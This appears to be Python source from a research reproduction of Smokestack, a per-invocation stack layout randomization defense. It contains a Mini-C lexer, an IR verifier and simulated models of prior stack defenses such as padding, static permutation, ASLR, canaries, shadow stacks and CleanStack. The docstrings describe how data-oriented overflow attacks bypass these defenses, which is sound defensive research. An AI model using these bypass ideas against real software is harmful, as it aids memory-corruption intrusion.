    return PointerType(pointee)


def common_arithmetic_type(left: CType, right: CType) -> CType:
    """The usual arithmetic conversions, simplified for Mini-C.

    Floats dominate integers; otherwise the wider integer wins; at equal
    width, unsigned wins.  Everything at least ``int``-promotes.
    """
    if not (left.is_arithmetic() and right.is_arithmetic()):
        raise SemanticError(
            f"cannot combine non-arithmetic types {left} and {right}"
        )
    if left.is_float() or right.is_float():
        candidates = [t for t in (left, right) if t.is_float()]
        return max(candidates, key=lambda t: t.size())
    left = integer_promote(left)
    right = integer_promote(right)
    assert isinstance(left, IntType) and isinstance(right, IntType)
    if left.size() != right.size():
        return left if left.size() > right.size() else right
    if left.signed == right.signed:
        return left
    return left if not left.signed else right


def integer_promote(type_: CType) -> CType:
    """Promote sub-int integers to ``int`` (C's integer promotions)."""
    if isinstance(type_, IntType) and type_.size() < INT.size():
        return INT
    return type_
