"""Hand-written lexer for Mini-C.

The lexer is a straightforward maximal-munch scanner.  It handles:

* ``//`` line comments and ``/* ... */`` block comments,
* decimal, hexadecimal (``0x``) and octal (``0``-prefixed) integer literals
  with optional ``u``/``l`` suffixes (the suffixes are consumed and ignored;
  Mini-C's type system assigns literal types by context),
* character literals with the common C escapes,
* string literals, decoded to ``bytes`` (Mini-C strings are byte strings,
  as in C).
"""

from __future__ import annotations

from typing import Iterator, List

from repro.errors import LexError, SourceLocation
from repro.minic.tokens import (
    KEYWORDS,
    MULTI_CHAR_OPERATORS,
    SINGLE_CHAR_OPERATORS,
    Token,
    TokenKind,
)

_ESCAPES = {
    "n": 10,
    "t": 9,
    "r": 13,
    "0": 0,
    "\\": 92,
    "'": 39,
    '"': 34,
    "a": 7,
    "b": 8,
    "f": 12,
    "v": 11,
}


class Lexer:
    """Tokenizes one Mini-C source text."""

    def __init__(self, source: str, filename: str = "<input>"):
        self._source = source
        self._filename = filename
        self._pos = 0
        self._line = 1
        self._column = 1

    def tokenize(self) -> List[Token]:
        """Scan the whole input and return the token list (ending in EOF)."""
        tokens = list(self._iter_tokens())
        return tokens

    def _iter_tokens(self) -> Iterator[Token]:
        while True:
            self._skip_whitespace_and_comments()
            if self._at_end():
                yield Token(TokenKind.EOF, "", self._location())
                return
            yield self._scan_token()

    # -- low-level cursor helpers -------------------------------------------------

    def _at_end(self) -> bool:
        return self._pos >= len(self._source)

    def _peek(self, offset: int = 0) -> str:
        index = self._pos + offset
        if index >= len(self._source):
            return ""
        return self._source[index]

    def _advance(self) -> str:
        ch = self._source[self._pos]
        self._pos += 1
        if ch == "\n":
            self._line += 1
            self._column = 1
        else:
            self._column += 1
        return ch

    def _location(self) -> SourceLocation:
        return SourceLocation(self._filename, self._line, self._column)

    def _error(self, message: str) -> LexError:
        return LexError(message, self._location())

    # -- scanning -----------------------------------------------------------------

    def _skip_whitespace_and_comments(self) -> None:
        while not self._at_end():
            ch = self._peek()
            if ch in " \t\r\n":
                self._advance()
            elif ch == "/" and self._peek(1) == "/":
                while not self._at_end() and self._peek() != "\n":
                    self._advance()
            elif ch == "/" and self._peek(1) == "*":
                self._skip_block_comment()
            else:
                return

    def _skip_block_comment(self) -> None:
        start = self._location()
        self._advance()  # '/'
        self._advance()  # '*'
        while True:
            if self._at_end():
                raise LexError("unterminated block comment", start)
            if self._peek() == "*" and self._peek(1) == "/":
                self._advance()
                self._advance()
                return
            self._advance()

    def _scan_token(self) -> Token:
        location = self._location()
        ch = self._peek()
        if ch.isalpha() or ch == "_":
            return self._scan_identifier(location)
        if ch.isdigit():
            return self._scan_number(location)
        if ch == "'":
            return self._scan_char(location)
        if ch == '"':
            return self._scan_string(location)
        return self._scan_operator(location)

    def _scan_identifier(self, location: SourceLocation) -> Token:
        start = self._pos
        while not self._at_end() and (self._peek().isalnum() or self._peek() == "_"):
            self._advance()
        text = self._source[start : self._pos]
        kind = KEYWORDS.get(text, TokenKind.IDENT)
        value = text if kind is TokenKind.IDENT else None
        return Token(kind, text, location, value)

    def _scan_number(self, location: SourceLocation) -> Token:
        start = self._pos
        if self._peek() == "0" and self._peek(1) in ("x", "X"):
            self._advance()
            self._advance()
            if not _is_hex_digit(self._peek()):
                raise self._error("expected hexadecimal digits after '0x'")
            while _is_hex_digit(self._peek()):
                self._advance()
            base = 16
        else:
            while self._peek().isdigit():
                self._advance()
            digits = self._source[start : self._pos]
            base = 8 if len(digits) > 1 and digits[0] == "0" else 10
        text = self._source[start : self._pos]
        # Consume (and ignore) integer suffixes.  The empty string returned
        # by _peek at EOF must not match (`"" in "uUlL"` is True).
        while self._peek() and self._peek() in "uUlL":
            self._advance()
        try:
            value = int(text, base)
        except ValueError:
            raise self._error(f"invalid integer literal {text!r}") from None
        full_text = self._source[start : self._pos]
        return Token(TokenKind.INT_LITERAL, full_text, location, value)

    def _scan_char(self, location: SourceLocation) -> Token:
        start = self._pos
        self._advance()  # opening quote
        if self._at_end():
            raise LexError("unterminated character literal", location)
        ch = self._advance()
        if ch == "\\":
            value = self._decode_escape(location)
        elif ch == "'":
            raise LexError("empty character literal", location)
        else:
            value = ord(ch)
            if value > 255:
                raise LexError("non-byte character literal", location)
        if self._at_end() or self._advance() != "'":
            raise LexError("unterminated character literal", location)
        return Token(
            TokenKind.CHAR_LITERAL, self._source[start : self._pos], location, value
        )

    def _scan_string(self, location: SourceLocation) -> Token:
        start = self._pos
        self._advance()  # opening quote
        data = bytearray()
        while True:
            if self._at_end() or self._peek() == "\n":
                raise LexError("unterminated string literal", location)
            ch = self._advance()
            if ch == '"':
                break
            if ch == "\\":
                data.append(self._decode_escape(location))
            else:
                encoded = ch.encode("utf-8")
                data.extend(encoded)
        return Token(
            TokenKind.STRING_LITERAL,
            self._source[start : self._pos],
            location,
            bytes(data),
        )

    def _decode_escape(self, location: SourceLocation) -> int:
        if self._at_end():
            raise LexError("unterminated escape sequence", location)
        ch = self._advance()
        if ch == "x":
            digits = ""
            while _is_hex_digit(self._peek()):
                digits += self._advance()
            if not digits:
                raise LexError("\\x used with no following hex digits", location)
            value = int(digits, 16)
            if value > 255:
                raise LexError("hex escape out of byte range", location)
            return value
        if ch in _ESCAPES:
            return _ESCAPES[ch]
        raise LexError(f"unknown escape sequence '\\{ch}'", location)

    def _scan_operator(self, location: SourceLocation) -> Token:
        remaining = self._source[self._pos :]
        for spelling, kind in MULTI_CHAR_OPERATORS:
            if remaining.startswith(spelling):
                for _ in spelling:
                    self._advance()
                return Token(kind, spelling, location)
        ch = self._peek()
        kind = SINGLE_CHAR_OPERATORS.get(ch)
        if kind is None:
            raise self._error(f"unexpected character {ch!r}")
        self._advance()
        return Token(kind, ch, location)


def _is_hex_digit(ch: str) -> bool:
    return bool(ch) and ch in "0123456789abcdefABCDEF"


def tokenize(source: str, filename: str = "<input>") -> List[Token]:
    """Convenience wrapper: tokenize ``source`` in one call."""
    return Lexer(source, filename).tokenize()
