"""Random padding at function entry (Forrest et al., HotOS '97).

The transformation the paper describes in §II-B: for every stack frame
larger than 16 bytes (the heuristic for "contains a buffer"), insert one
of 8 possible paddings — 8, 16, ..., 64 bytes — chosen randomly *at
compile time*.  The padding shifts the whole frame relative to its caller
but leaves intra-frame distances intact, and because the choice is baked
into the binary it is identical on every run and every restart.

The attacker's reference binary does not reveal the deployed instance's
padding (that is the scheme's diversity argument), so
``layout_oracle`` reports the unpadded reference layout; the attack suite
then shows both bypasses the paper names: memory disclosure and
brute-force over the 8 possibilities (§II-C).
"""

from __future__ import annotations

import random
from typing import Dict

from repro.core.allocations import discover_function
from repro.core.pipeline import compile_source
from repro.defenses.base import Defense, ProgramBuild, reference_layouts_of
from repro.ir.instructions import Alloca
from repro.ir.module import Function, Module
from repro.minic import types as ct
from repro.vm.interpreter import Machine

#: The 8 possible paddings of the original scheme.
PAD_CHOICES = tuple(range(8, 72, 8))
#: Frames at or below this size are considered buffer-free and unpadded.
MIN_FRAME_SIZE = 16

PAD_SLOT_NAME = "__forrest_pad"


def apply_function_padding(function: Function, pad_bytes: int) -> bool:
    """Insert a ``pad_bytes`` dummy allocation at the top of the frame.

    Returns False when the frame is too small to qualify.  The dummy is
    the *first* allocation, i.e. the highest-addressed local, displacing
    every local (and the buffer-to-caller distance) by the pad size.
    """
    descriptor = discover_function(function)
    if descriptor.total_unpermuted_size() <= MIN_FRAME_SIZE:
        return False
    pad = Alloca(
        ct.ArrayType(ct.CHAR, pad_bytes),
        align=8,
        var_name=PAD_SLOT_NAME,
    )
    pad.name = function.next_value_name("pad")
    entry = function.entry
    pad.block = entry
    entry.instructions.insert(0, pad)
    return True


def apply_module_padding(module: Module, seed: int) -> Dict[str, int]:
    """Pad every qualifying function; returns function -> pad bytes."""
    rng = random.Random(seed ^ 0xF0447E57)
    applied: Dict[str, int] = {}
    for function in module.functions.values():
        pad_bytes = rng.choice(PAD_CHOICES)
        if apply_function_padding(function, pad_bytes):
            applied[function.name] = pad_bytes
    return applied


class ForrestPadding(Defense):
    """Compile-time random padding before large frames."""

    name = "padding"
    randomization_time = "compile"

    def build(self, source: str, instance_seed: int = 0) -> ProgramBuild:
        # The attacker's reference layout comes from the unpadded build.
        reference_module = compile_source(source)
        layouts = reference_layouts_of(reference_module)
        module = compile_source(source)
        applied = apply_module_padding(module, instance_seed)
        module.metadata["forrest_padding"] = applied

        def factory(**kwargs) -> Machine:
            return Machine(module, **kwargs)

        return ProgramBuild(self.name, module, factory, layouts)
