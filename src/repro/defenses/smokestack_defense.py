"""Smokestack wrapped in the common :class:`Defense` interface.

This is what the security-evaluation harness instantiates to put the
paper's contribution on the same footing as the prior schemes: build once
(the P-BOX and instrumentation are compile-time artifacts, but they fix
only the *set* of layouts, not the choice), then draw a fresh layout at
every function invocation at run time.
"""

from __future__ import annotations

from typing import Optional

from repro.core.config import SmokestackConfig
from repro.core.pipeline import harden_source
from repro.defenses.base import Defense, ProgramBuild
from repro.rng.entropy import DeterministicEntropy, EntropySource
from repro.vm.interpreter import Machine


class SmokestackDefense(Defense):
    """Per-invocation stack layout randomization (the paper)."""

    name = "smokestack"
    randomization_time = "invocation"

    def __init__(
        self,
        config: Optional[SmokestackConfig] = None,
        entropy: Optional[EntropySource] = None,
    ):
        self.config = config or SmokestackConfig()
        self.entropy = entropy

    def build(self, source: str, instance_seed: int = 0) -> ProgramBuild:
        hardened = harden_source(source, self.config)
        entropy = self.entropy
        scheme = self.config.scheme
        starts = [0]  # distinct per-process entropy across restarts

        def factory(**kwargs) -> Machine:
            if entropy is not None:
                process_entropy = entropy
            else:
                # Deterministic per-build + per-start entropy keeps the
                # experiments reproducible while still giving every process
                # start an independent random stream.
                starts[0] += 1
                process_entropy = DeterministicEntropy(
                    (instance_seed << 20) ^ starts[0]
                )
            return hardened.make_machine(
                entropy=process_entropy, scheme=scheme, **kwargs
            )

        # Static analysis of a hardened binary finds one unified frame per
        # function and no per-variable slots: the oracle is empty.
        return ProgramBuild(self.name, hardened.module, factory, {})
