"""Stack defenses: the prior schemes the paper bypasses, plus Smokestack
itself behind the same interface, so the attack suite can evaluate them
uniformly (paper §II-B/C and §V-C).
"""

from repro.defenses.aslr import StackBaseASLR
from repro.defenses.base import Defense, NoDefense, ProgramBuild, StackCanary
from repro.defenses.cleanstack import CleanStackDefense
from repro.defenses.padding import PAD_CHOICES, ForrestPadding, apply_module_padding
from repro.defenses.registry import defense_names, make_defense, prior_defense_names
from repro.defenses.shadowstack import ShadowStackDefense
from repro.defenses.smokestack_defense import SmokestackDefense
from repro.defenses.static_permute import StaticPermutation, permute_module

__all__ = [
    "CleanStackDefense",
    "Defense",
    "ForrestPadding",
    "NoDefense",
    "PAD_CHOICES",
    "ProgramBuild",
    "ShadowStackDefense",
    "SmokestackDefense",
    "StackBaseASLR",
    "StackCanary",
    "StaticPermutation",
    "apply_module_padding",
    "defense_names",
    "make_defense",
    "permute_module",
    "prior_defense_names",
]
