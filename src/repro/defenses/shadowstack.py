"""Shadow stack: return-address/metadata isolation.

Models the backward-edge protection surveyed in the Shadow Stacks SoK
(PAPERS.md): the return address (and in our frame model the whole
cookie/canary metadata band) is kept in a region an overflow cannot
reach, so return-address corruption is impossible — the epilogue always
returns through the pristine shadow copy.

In the VM this means the frame-pop integrity comparison is performed
against the protected copy rather than the in-frame bytes
(``Machine(shadow_stack=True)``): guest writes over the return slot are
tolerated and control flow proceeds normally.  Deliberately, *nothing*
else changes — local variables keep their baseline layout — which makes
the scheme's blind spot executable: DOP attacks never touch the return
address, so their success rate under a shadow stack matches the
undefended baseline.  That is the SoK's (and the Smokestack paper's)
argument for why backward-edge CFI does not answer data-oriented attacks.
"""

from __future__ import annotations

from repro.core.pipeline import compile_source
from repro.defenses.base import Defense, ProgramBuild, reference_layouts_of
from repro.vm.interpreter import Machine


class ShadowStackDefense(Defense):
    """Return-address isolation; data layout untouched."""

    name = "shadowstack"
    randomization_time = "none"

    def build(self, source: str, instance_seed: int = 0) -> ProgramBuild:
        module = compile_source(source)
        layouts = reference_layouts_of(module)

        def factory(**kwargs) -> Machine:
            kwargs.setdefault("shadow_stack", True)
            return Machine(module, **kwargs)

        return ProgramBuild(self.name, module, factory, layouts)
