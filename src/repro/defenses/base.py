"""Common interface for the stack defenses under evaluation.

The essential distinction the paper draws is *when* randomness is drawn:

* **compile-time** schemes (static permutation, Forrest padding) fix their
  randomness when the binary is built — every run, and every restart of a
  crashed service, has the same layout;
* **load-time** schemes (stack-base ASLR) draw once per process;
* **Smokestack** draws per function invocation.

:class:`Defense.build` therefore models one *deployment*: compile-time
randomness is fixed inside the returned :class:`ProgramBuild`, while each
:meth:`ProgramBuild.make_machine` call models one process start (load-time
and run-time randomness fresh).

``layout_oracle`` returns what the attacker's *static analysis of the
reference binary* reveals about a function's frame: the paper's threat
model grants the attacker the binary or sources, but not the deployed
instance's compile-time random seed (Forrest-style diversity) — and for
Smokestack there simply is no per-variable layout to recover.
"""

from __future__ import annotations

from typing import Callable, Dict, Optional

from repro.core.pipeline import compile_source
from repro.ir.module import Module
from repro.vm.interpreter import Machine


class ProgramBuild:
    """One deployed build of a program under some defense."""

    def __init__(
        self,
        defense_name: str,
        module: Module,
        machine_factory: Callable[..., Machine],
        reference_layouts: Dict[str, Dict[str, int]],
    ):
        self.defense_name = defense_name
        self.module = module
        self._machine_factory = machine_factory
        self._reference_layouts = reference_layouts

    def make_machine(self, **kwargs) -> Machine:
        """A fresh process (one service start / one restart)."""
        return self._machine_factory(**kwargs)

    def layout_oracle(self, function_name: str) -> Dict[str, int]:
        """What static analysis of the reference binary says about a frame.

        Offsets are bytes below the frame top (larger = lower address), as
        produced by :meth:`Machine.baseline_frame_layout`.  Empty for
        functions whose layout static analysis cannot pin down (Smokestack).
        """
        return dict(self._reference_layouts.get(function_name, {}))


class Defense:
    """A named protection scheme that can build programs."""

    #: registry name, e.g. "none", "aslr", "padding", "static-permute",
    #: "canary", "smokestack"
    name = "abstract"
    #: where the scheme's randomness is drawn ("none", "compile", "load",
    #: "invocation")
    randomization_time = "none"

    def build(self, source: str, instance_seed: int = 0) -> ProgramBuild:
        raise NotImplementedError

    def __repr__(self) -> str:
        return f"{type(self).__name__}()"


def reference_layouts_of(module: Module) -> Dict[str, Dict[str, int]]:
    """Declaration-order layouts of every function (the un-diversified
    reference binary an attacker studies)."""
    machine = Machine(module)
    return {
        name: machine.baseline_frame_layout(name) for name in module.functions
    }


class NoDefense(Defense):
    """Plain baseline build: deterministic layout, no protections."""

    name = "none"
    randomization_time = "none"

    def build(self, source: str, instance_seed: int = 0) -> ProgramBuild:
        module = compile_source(source)
        layouts = reference_layouts_of(module)

        def factory(**kwargs) -> Machine:
            return Machine(module, **kwargs)

        return ProgramBuild(self.name, module, factory, layouts)


class StackCanary(Defense):
    """Classic stack-smashing protector: secret word below the return slot.

    Stops *linear* overflows that cross the canary, but DOP payloads that
    stay inside the locals region (or skip over it non-linearly) never
    touch it — which is why the paper replaces it rather than relying on
    it.
    """

    name = "canary"
    randomization_time = "load"

    def build(self, source: str, instance_seed: int = 0) -> ProgramBuild:
        module = compile_source(source)
        layouts = reference_layouts_of(module)

        def factory(**kwargs) -> Machine:
            kwargs.setdefault("stack_protector", True)
            return Machine(module, **kwargs)

        return ProgramBuild(self.name, module, factory, layouts)
