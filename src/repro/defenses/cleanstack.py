"""CleanStack-style taint-partitioned dual stack.

Models the defense of the CleanStack paper (PAPERS.md): a static taint
analysis (:mod:`repro.analysis.partition`) classifies every stack slot as
clean or unclean, and unclean slots — anything attacker input can reach,
anything whose address escapes, anything unprovable — are relocated to a
separate *unclean stack* whose base is randomized once per process start.
Clean slots stay exactly where the baseline layout puts them.

Consequences for the attack suite, which is the point of the model:

* an overflow from an unclean buffer can no longer reach any clean slot
  (the regions are ~1 MiB apart, far beyond any bounded write), so the
  classic "tainted request buffer corrupts a clean decision variable"
  attacks die deterministically;
* attacks confined to *unclean* data — the buffer and the DOP target are
  both attacker-influenced — stay deterministic, because the partition
  preserves relative distances inside the unclean region.  That residual
  surface is CleanStack's documented blind spot and exactly what
  Smokestack's per-invocation shuffle still covers.

Like ASLR, the randomness is drawn at load time: one ``make_machine``
call = one process start = one fresh unclean-stack displacement.
"""

from __future__ import annotations

import random

from repro.analysis.partition import machine_partition, partition_module
from repro.core.pipeline import compile_source
from repro.defenses.base import Defense, ProgramBuild, reference_layouts_of
from repro.vm.interpreter import Machine

#: Span of the unclean stack's load-time displacement (bytes), matching
#: the stack-base ASLR span; the VM enforces 16-byte granularity.
DEFAULT_UNSAFE_SPAN = 64 * 1024


class CleanStackDefense(Defense):
    """Taint-partitioned dual stack with a randomized unclean region."""

    name = "cleanstack"
    randomization_time = "load"

    def __init__(self, entropy_span: int = DEFAULT_UNSAFE_SPAN):
        self.entropy_span = entropy_span

    def build(self, source: str, instance_seed: int = 0) -> ProgramBuild:
        module = compile_source(source)
        layouts = reference_layouts_of(module)
        # The partition is a compile-time artifact: static analysis over
        # the taint verdicts, baked into the deployment.
        unclean = machine_partition(partition_module(module))
        rng = random.Random(instance_seed ^ 0xC1EA45)
        span = self.entropy_span

        def factory(**kwargs) -> Machine:
            kwargs.setdefault("clean_partition", unclean)
            # A fresh unclean-stack displacement per process start.
            kwargs.setdefault(
                "unsafe_stack_offset", rng.randrange(0, span, 16)
            )
            return Machine(module, **kwargs)

        return ProgramBuild(self.name, module, factory, layouts)
