"""Name-keyed registry of all defenses under evaluation."""

from __future__ import annotations

from typing import Callable, Dict, List

from repro.defenses.aslr import StackBaseASLR
from repro.defenses.base import Defense, NoDefense, StackCanary
from repro.defenses.cleanstack import CleanStackDefense
from repro.defenses.padding import ForrestPadding
from repro.defenses.shadowstack import ShadowStackDefense
from repro.defenses.smokestack_defense import SmokestackDefense
from repro.defenses.static_permute import StaticPermutation

_FACTORIES: Dict[str, Callable[[], Defense]] = {
    "none": NoDefense,
    "canary": StackCanary,
    "aslr": StackBaseASLR,
    "padding": ForrestPadding,
    "static-permute": StaticPermutation,
    "cleanstack": CleanStackDefense,
    "shadowstack": ShadowStackDefense,
    "smokestack": SmokestackDefense,
}


def make_defense(name: str) -> Defense:
    """Instantiate a defense by registry name."""
    try:
        factory = _FACTORIES[name]
    except KeyError:
        raise ValueError(
            f"unknown defense '{name}'; known: {', '.join(defense_names())}"
        ) from None
    return factory()


def defense_names() -> List[str]:
    return sorted(_FACTORIES)


def prior_defense_names() -> List[str]:
    """The pre-Smokestack schemes §II-C evaluates."""
    return ["none", "canary", "aslr", "padding", "static-permute"]
