"""Stack-base address randomization (load-time ASLR for the stack).

Models the transformations of [Forrest et al. 97], PaX/standard ASLR and
the stack-base part of [Giuffrida et al. 12]: at process start the stack
base is displaced by a random amount, making *absolute* stack addresses
unpredictable across runs.  Relative distances between locals are intact,
which is exactly why DOP attacks that only need the distance from the
overflowed buffer to the target variable sail through (paper §II-B/C).
"""

from __future__ import annotations

import random

from repro.core.pipeline import compile_source
from repro.defenses.base import Defense, ProgramBuild, reference_layouts_of
from repro.vm.interpreter import Machine

#: Span of the random displacement (bytes).  16-byte granularity is
#: enforced by the VM to preserve ABI stack alignment.
DEFAULT_ENTROPY_SPAN = 64 * 1024


class StackBaseASLR(Defense):
    """Per-process random stack base."""

    name = "aslr"
    randomization_time = "load"

    def __init__(self, entropy_span: int = DEFAULT_ENTROPY_SPAN):
        self.entropy_span = entropy_span

    def build(self, source: str, instance_seed: int = 0) -> ProgramBuild:
        module = compile_source(source)
        layouts = reference_layouts_of(module)
        rng = random.Random(instance_seed ^ 0xA51A51)
        span = self.entropy_span

        def factory(**kwargs) -> Machine:
            # A fresh displacement per process start (machine creation).
            kwargs.setdefault("stack_base_offset", rng.randrange(0, span, 16))
            return Machine(module, **kwargs)

        return ProgramBuild(self.name, module, factory, layouts)
