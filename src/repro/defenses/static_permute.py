"""Static (compile-time) stack layout permutation.

Models the stack randomization of Giuffrida et al. (USENIX Sec '12) as
the paper characterizes it in §II-B: the order of a function's stack
allocations is permuted *once, at compile time*.  Every run of the binary
— and every restart after a crash — therefore exhibits the same permuted
layout, which is the weakness §II-C exploits: a single memory disclosure
(or a brute-force search across restarts) recovers the layout for good.
"""

from __future__ import annotations

import random
from typing import Dict, List

from repro.core.pipeline import compile_source
from repro.defenses.base import Defense, ProgramBuild, reference_layouts_of
from repro.ir.instructions import Alloca, Instruction
from repro.ir.module import Function, Module
from repro.vm.interpreter import Machine


def permute_function_allocas(function: Function, rng: random.Random) -> List[str]:
    """Shuffle the order of the static allocas (hence their frame slots).

    The VM assigns frame addresses in alloca program order, so reordering
    the alloca instructions *is* the layout permutation.  Allocas are
    collected across all blocks, shuffled, and re-emitted at the top of
    the entry block (hoisting them is semantics-preserving for static
    allocas and matches how a compiler pass would do it).

    Returns the permuted order of variable names (for diagnostics).
    """
    static: List[Alloca] = function.static_allocas()
    if len(static) < 2:
        return [a.var_name for a in static]
    target = list(static)
    rng.shuffle(target)
    static_set = set(static)
    # Remove the originals...
    for block in function.blocks:
        block.instructions = [
            inst for inst in block.instructions if inst not in static_set
        ]
    # ...and re-insert in permuted order at the entry top.
    entry = function.entry
    for position, alloca in enumerate(target):
        alloca.block = entry
        entry.instructions.insert(position, alloca)
    return [a.var_name for a in target]


def permute_module(module: Module, seed: int) -> Dict[str, List[str]]:
    rng = random.Random(seed ^ 0x57A71C)
    permuted: Dict[str, List[str]] = {}
    for function in module.functions.values():
        permuted[function.name] = permute_function_allocas(function, rng)
    return permuted


class StaticPermutation(Defense):
    """Compile-time permutation of each function's stack layout."""

    name = "static-permute"
    randomization_time = "compile"

    def build(self, source: str, instance_seed: int = 0) -> ProgramBuild:
        reference_module = compile_source(source)
        layouts = reference_layouts_of(reference_module)
        module = compile_source(source)
        module.metadata["static_permutation"] = permute_module(
            module, instance_seed
        )

        def factory(**kwargs) -> Machine:
            return Machine(module, **kwargs)

        return ProgramBuild(self.name, module, factory, layouts)
