"""Structural verifier for IR modules.

The verifier enforces the invariants the interpreter assumes, so that a
broken lowering or instrumentation pass fails loudly at compile time
instead of corrupting a simulation run:

* every block has exactly one terminator, at the end,
* branch targets belong to the same function,
* instruction operands are defined in the same function (or are
  constants/arguments/globals of the module),
* every use is *dominated* by its definition: a same-block def precedes
  the use, a cross-block def's block dominates the use's block, and a
  phi incoming is available at the end of its predecessor (unreachable
  code is exempt — it never executes),
* loads/stores type-check against their pointer operand,
* calls reference functions that exist in the module or known builtins,
  with matching arity,
* the entry block is first and no block is empty.
"""

from __future__ import annotations

from typing import Set

from repro.errors import VerifierError
from repro.minic.builtins import BUILTINS
from repro.ir.instructions import (
    Alloca,
    Br,
    Call,
    CondBr,
    Instruction,
    Load,
    Phi,
    Ret,
    Store,
)
from repro.ir.module import Function, Module
from repro.ir.values import Argument, Constant, GlobalVariable, Value


def verify_module(module: Module) -> None:
    """Verify every function; raises VerifierError on the first problem."""
    for function in module.functions.values():
        verify_function(function, module)


def verify_function(function: Function, module: Module) -> None:
    if not function.blocks:
        raise VerifierError(f"function '{function.name}' has no blocks")
    block_set = set(function.blocks)
    defined: Set[int] = set()
    for param in function.params:
        defined.add(id(param))
    # First pass: collect all instruction results.  The interpreter executes
    # blocks in control-flow order, so using a value before its block runs is
    # a dynamic error; structurally we only require that the producing
    # instruction exists within the same function.
    for block in function.blocks:
        if not block.instructions:
            raise VerifierError(
                f"empty block '{block.label}' in function '{function.name}'"
            )
        for inst in block.instructions:
            if inst.has_result():
                defined.add(id(inst))
    for block in function.blocks:
        terminator = block.instructions[-1]
        if not terminator.is_terminator:
            raise VerifierError(
                f"block '{block.label}' in '{function.name}' lacks a terminator"
            )
        seen_non_phi = False
        for index, inst in enumerate(block.instructions):
            if inst.is_terminator and index != len(block.instructions) - 1:
                raise VerifierError(
                    f"terminator in the middle of block '{block.label}' "
                    f"in '{function.name}'"
                )
            if isinstance(inst, Phi):
                if seen_non_phi:
                    raise VerifierError(
                        f"phi after non-phi in block '{block.label}' "
                        f"of '{function.name}'"
                    )
            else:
                seen_non_phi = True
            _verify_instruction(inst, function, module, defined, block_set)
    _verify_dominance(function)


def _verify_dominance(function: Function) -> None:
    """Def-before-use, properly: every use dominated by its definition.

    Membership in the function (checked above) is not enough — an IR
    producer can reference a value from a block that never executes
    before the use, which the interpreter only discovers as a dynamic
    "value has no binding" trap.  Dominance catches it at compile time.
    Uses inside unreachable blocks are exempt: they cannot execute, and
    passes legitimately leave orphaned blocks behind.
    """
    # Imported here: repro.opt.cfg has no dependencies back on the
    # verifier, but keeping the import local avoids any ir<->opt import
    # cycle at module load time.
    from repro.opt.cfg import DominatorTree, reachable_blocks

    reachable = reachable_blocks(function)
    dom = DominatorTree(function)
    position = {}
    for block in function.blocks:
        for index, inst in enumerate(block.instructions):
            position[id(inst)] = (block, index)

    def check_use(operand, use_block, use_index, what: str) -> None:
        if not isinstance(operand, Instruction):
            return
        def_pos = position.get(id(operand))
        if def_pos is None:
            return  # foreign-operand error already raised above
        def_block, def_index = def_pos
        if def_block is use_block:
            if def_index < use_index:
                return
        elif def_block in reachable and dom.dominates(def_block, use_block):
            return
        raise VerifierError(
            f"use of %{operand.name or id(operand)} in block "
            f"'{use_block.label}' of '{function.name}' is not dominated "
            f"by its definition in '{def_block.label}' ({what})"
        )

    for block in function.blocks:
        if block not in reachable:
            continue
        for index, inst in enumerate(block.instructions):
            if isinstance(inst, Phi):
                for value, pred in inst.incomings:
                    if not isinstance(value, Instruction):
                        continue
                    # The incoming value must be available when control
                    # leaves ``pred``: its def must dominate ``pred``.
                    if pred not in reachable:
                        continue
                    check_use(
                        value,
                        pred,
                        len(pred.instructions),
                        f"phi incoming from '{pred.label}'",
                    )
                continue
            for operand in inst.operands:
                check_use(operand, block, index, "operand")


def _verify_instruction(
    inst: Instruction,
    function: Function,
    module: Module,
    defined: Set[int],
    block_set,
) -> None:
    for operand in inst.operands:
        _verify_operand(operand, function, module, defined)
    if isinstance(inst, Br):
        if inst.target not in block_set:
            raise VerifierError(
                f"branch to foreign block from '{function.name}'"
            )
    elif isinstance(inst, CondBr):
        if inst.true_target not in block_set or inst.false_target not in block_set:
            raise VerifierError(
                f"conditional branch to foreign block from '{function.name}'"
            )
    elif isinstance(inst, Ret):
        if inst.value is None:
            if not function.return_type.is_void():
                raise VerifierError(
                    f"'{function.name}' returns void but declares "
                    f"{function.return_type}"
                )
        elif inst.value.ctype != function.return_type:
            raise VerifierError(
                f"'{function.name}' returns {inst.value.ctype} but declares "
                f"{function.return_type}"
            )
    elif isinstance(inst, Store):
        pointee = inst.pointer.ctype.pointee
        if inst.value.ctype != pointee:
            raise VerifierError(
                f"store type mismatch in '{function.name}': "
                f"{inst.value.ctype} into {inst.pointer.ctype}"
            )
    elif isinstance(inst, Load):
        if not inst.pointer.ctype.is_pointer():
            raise VerifierError(f"load from non-pointer in '{function.name}'")
    elif isinstance(inst, Call):
        _verify_call(inst, function, module)
    elif isinstance(inst, Phi):
        for value, pred in inst.incomings:
            if value.ctype != inst.ctype:
                raise VerifierError(
                    f"phi incoming type {value.ctype} differs from "
                    f"{inst.ctype} in '{function.name}'"
                )
            if pred not in block_set:
                raise VerifierError(
                    f"phi incoming from foreign block in '{function.name}'"
                )
    elif isinstance(inst, Alloca):
        if inst.align <= 0 or (inst.align & (inst.align - 1)) != 0:
            raise VerifierError(
                f"alloca alignment {inst.align} in '{function.name}' "
                "is not a positive power of two"
            )


def _verify_call(inst: Call, function: Function, module: Module) -> None:
    name = inst.callee_name()
    if isinstance(inst.callee, str):
        if name in module.functions:
            target = module.functions[name]
            if len(inst.args) != len(target.params):
                raise VerifierError(
                    f"call to '{name}' with {len(inst.args)} args, "
                    f"expected {len(target.params)}"
                )
            return
        sig = BUILTINS.get(name)
        if sig is None and not name.startswith("__ss_"):
            raise VerifierError(
                f"call to unknown builtin '{name}' from '{function.name}'"
            )
        if sig is not None and not sig.variadic and len(inst.args) != len(sig.params):
            raise VerifierError(
                f"builtin '{name}' takes {len(sig.params)} args, "
                f"got {len(inst.args)}"
            )
        return
    if module.functions.get(name) is not inst.callee:
        raise VerifierError(
            f"call to function '{name}' that is not part of the module"
        )
    if len(inst.args) != len(inst.callee.params):
        raise VerifierError(
            f"call to '{name}' with {len(inst.args)} args, "
            f"expected {len(inst.callee.params)}"
        )


def _verify_operand(
    operand: Value, function: Function, module: Module, defined: Set[int]
) -> None:
    if isinstance(operand, Constant):
        return
    if isinstance(operand, GlobalVariable):
        if module.globals.get(operand.name) is not operand:
            raise VerifierError(
                f"operand references global '{operand.name}' not in module"
            )
        return
    if isinstance(operand, Argument):
        if id(operand) not in defined:
            raise VerifierError(
                f"operand references a foreign argument in '{function.name}'"
            )
        return
    if isinstance(operand, Instruction):
        if id(operand) not in defined:
            raise VerifierError(
                f"operand references an instruction outside '{function.name}'"
            )
        return
    raise VerifierError(f"unknown operand kind {type(operand).__name__}")
